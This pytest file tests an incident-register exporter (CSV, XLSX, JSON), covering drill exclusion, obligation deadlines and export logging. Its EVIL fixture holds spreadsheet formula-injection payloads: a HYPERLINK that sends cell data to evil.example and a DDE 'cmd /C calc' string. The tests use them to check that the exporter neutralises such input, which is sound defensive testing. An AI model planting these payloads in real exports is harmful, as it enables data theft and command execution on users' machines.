from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from incident_app.services.container import Services
from incident_app.services.register_export import build_register, export_register, register_metrics

EVIL = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "discovered_by": "+86 138 0013 8000",
    "location": "\t=1+2",
}


def record_event(services: Services, type: str, incident_id: int, payload: dict[str, Any]) -> None:
    with services.ctx.store.transaction():
        services.ctx.record(type, "test", incident_id, payload, incident_id)


def test_csv_neutralises_every_formula_cell(services: Services, intake: dict[str, object], tmp_path: Path) -> None:
    services.incidents.create(intake | EVIL)
    out = tmp_path / "register.csv"
    export_register(services, out, "csv")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese correctly
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0]["title"] == "'" + EVIL["title"]
    assert rows[0]["summary"] == "'" + EVIL["summary"]
    assert rows[0]["discovered_by"] == "'+86 138 0013 8000"
    assert rows[0]["location"] == "'=1+2"  # intake strips the tab; the formula is still caught
    for row in rows:
        assert not any(v and v[0] in "=+-@\t\r" for v in row.values())


def test_xlsx_stores_formula_text_as_text(services: Services, intake: dict[str, object], tmp_path: Path) -> None:
    services.incidents.create(intake | EVIL)
    out = tmp_path / "register.xlsx"
    export_register(services, out, "xlsx")
    book = load_workbook(out)
    sheet = book["登记簿 Register"]
    header = [c.value for c in sheet[1]]
    title = sheet.cell(row=2, column=header.index("事件 Incident") + 1)
    assert title.value == "'" + EVIL["title"] and title.data_type == "s"
    cells = [c for row in book.worksheets for line in row.iter_rows() for c in line]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_json_keeps_the_text_exact(services: Services, intake: dict[str, object]) -> None:
    services.incidents.create(intake | EVIL)
    content, _ = export_register(services, None, "json")
    assert json.loads(content)["incidents"][0]["title"] == EVIL["title"]


def test_one_row_per_incident_drills_flagged_and_left_out_of_totals(
    services: Services, intake: dict[str, object]
) -> None:
    services.incidents.create(intake)
    services.incidents.create(intake | {"title": "演练 drill", "drill": True, "affected_people": 999_999})
    data = build_register(services)
    assert [r["drill"] for r in data.records] == [False, True]
    assert data.totals["incidents"] == 1 and data.totals["drills_excluded"] == 1
    assert data.totals["affected_people"] == 1200
    assert data.metrics.incidents == 1


def test_effects_decisions_grade_and_remediation_are_in_the_row(services: Services, intake: dict[str, object]) -> None:
    incident = services.incidents.create(intake | {"data_types": ["phone_number", "ip_address"]})
    services.decisions.record(incident.id, {"kind": "cac_grade_judgement", "rationale": "敏感信息但规模小",
                                            "decided_by": "王安全", "details": {"level": "一般"}})
    services.remediation.add(incident.id, [{"description": "关闭存储桶", "status": "done",
                                            "done_at": "2026-11-20T10:00:00"}])
    row = build_register(services).records[0]
    assert row["cac_grade"] == "一般"
    # The policy's glossary lists network identity information (IP addresses) as sensitive.
    assert row["data_types"] == ["手机号码", "IP 地址"] and row["sensitive_data"] is True
    assert row["remediation"] == ["[done] 关闭存储桶"]
    assert "cac_grade_judgement (王安全" in row["decisions"][0] and "敏感信息但规模小" in row["decisions"][0]


def test_obligations_on_time_and_late_with_reasons_and_counts_by_channel(
    services: Services, intake: dict[str, object]
) -> None:
    incident = services.incidents.create(intake)
    record_event(services, "obligation.met", incident.id, {
        "obligation_id": "cac-4h", "recipient": "regulator",
        "due": "2026-11-20T13:00:00+08:00", "met_at": "2026-11-20T12:00:00+08:00"})
    record_event(services, "obligation.met", incident.id, {
        "obligation_id": "pipl-individuals", "recipient": "individuals",
        "due": "2026-11-20T10:00:00+08:00", "met_at": "2026-11-20T11:30:00+08:00",
        "reason": "SMTP relay refused the first batch"})
    services.decisions.record(incident.id, {
        "kind": "obligation_status", "rationale": "no EU residents among the affected",
        "decided_by": "王安全", "details": {"obligation_id": "gdpr-33", "status": "not_applicable"}})
    record_event(services, "notice.sent", incident.id, {"recipient": "individuals", "channel": "email", "count": 1100})
    record_event(services, "notice.sent", incident.id, {"recipient": "guardians", "channel": "sms", "count": 3})
    record_event(services, "notice.sent", incident.id, {"recipient": "individuals", "channel": "fax", "count": 2})
    row = build_register(services).records[0]
    assert (row["obligations_total"], row["obligations_met_on_time"], row["obligations_met_late"],
            row["obligations_not_applicable"]) == (3, 1, 1, 1)
    assert "pipl-individuals: SMTP relay refused the first batch" in row["late_reasons"]
    assert "gdpr-33: no EU residents among the affected" in row["late_reasons"]
    assert (row["notified_email"], row["notified_sms"], row["notified_other"]) == (1100, 3, 2)
    assert row["regulator_reported_at"] == "2026-11-20T12:00:00+08:00"


def test_every_export_is_logged_with_where_it_went(
    services: Services, intake: dict[str, object], tmp_path: Path
) -> None:
    services.incidents.create(intake)
    export_register(services, tmp_path / "r.json", "json")
    export_register(services, None, "csv")
    exports = services.ctx.store.events.of_types(["export.written"])
    assert [(e.payload["what"], e.payload["format"], e.payload["count"]) for e in exports] == [
        ("register", "json", 1), ("register", "csv", 1)]
    assert exports[0].payload["where"] == str((tmp_path / "r.json").resolve())
    assert exports[1].payload["where"] == "stdout"
    assert exports[0].actor and services.audit.verify().ok


def test_unknown_format_is_refused(services: Services) -> None:
    with pytest.raises(ValueError, match="pdf"):
        export_register(services, None, "pdf")


def test_drill_activity_never_reaches_metrics_or_totals(services: Services, intake: dict[str, object]) -> None:
    services.incidents.create(intake | {"cause": "attack"})
    drill = services.incidents.create(intake | {"title": "drill", "drill": True, "cause": "malware"})
    record_event(services, "obligation.met", drill.id, {"obligation_id": "cac", "recipient": "regulator",
                                                        "due": "2026-11-20T10:00:00+08:00"})
    record_event(services, "notice.sent", drill.id, {"recipient": "individuals", "channel": "email", "count": 50})
    data = build_register(services)
    assert data.metrics.discovery_to_regulator_report.count == 0
    assert data.metrics.discovery_to_individual_notice.count == 0
    assert data.metrics.obligations_decided == 0 and data.metrics.on_time_share is None
    assert dict(data.metrics.causes)["malware"] == 0 and dict(data.metrics.causes)["attack"] == 1
    assert data.totals["notified_email"] == 0 and data.totals["obligations_total"] == 0
    assert data.records[1]["notified_email"] == 50  # the drill's own row still shows what it did
    assert register_metrics(services) == data.metrics
